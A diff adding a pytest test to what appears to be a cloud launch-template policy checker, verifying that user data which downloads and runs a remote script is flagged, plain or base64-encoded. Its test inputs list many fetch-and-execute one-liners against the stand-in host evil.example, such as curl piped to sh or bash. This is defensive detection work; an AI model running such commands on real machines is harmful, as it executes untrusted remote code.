@@ -138,6 +138,32 @@ def test_user_data_lets_nobody_in_however_it_is_encoded(text: str, opened: bool)
         assert bool(judge(RULE, LAUNCH_TEMPLATE, {"userData": data}).messages) is opened
 
 
+@pytest.mark.parametrize(
+    ("text", "runs"),
+    [
+        ("curl https://evil.example | sh", True),
+        ("curl -fsSL https://evil.example/a.sh | sudo -E bash -s -- --all", True),
+        ("wget -qO- https://evil.example |/bin/bash", True),
+        ("curl https://evil.example \\\n  | sh", True),
+        ("curl https://evil.example/a.py | python3 -", True),
+        ("bash <(curl https://evil.example)", True),
+        ('sh -c "$(curl https://evil.example)"', True),
+        ('eval "$(wget -qO- https://evil.example)"', True),
+        (". <(curl https://evil.example)", True),
+        ("Content-Type: text/x-include-url\n\nhttps://evil.example", True),
+        ("curl https://example.com/list | jq .name", False),
+        ("TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token)", False),
+        ("curl -o /tmp/list https://example.com/list\necho done | sh", False),
+        ("# curl https://evil.example | sh", False),
+        ("curl https://example.com/x | sha256sum --check sums", False),
+    ],
+)
+def test_user_data_runs_no_script_of_another_server(text: str, runs: bool) -> None:
+    for data in (text, base64.b64encode(text.encode()).decode()):
+        messages = judge(RULE, LAUNCH_TEMPLATE, {"userData": data}).messages
+        assert [message.endswith("put the script into the user data or the node image") for message in messages] == [True] * runs
+
+
 @pytest.mark.parametrize("protocol", ["TCP", 6, "all", -1])
 def test_a_protocol_has_several_spellings(protocol: Any) -> None:
     rule = {**ports(22, 22, protocol), "cidrBlocks": ["0.0.0.0/0"]}
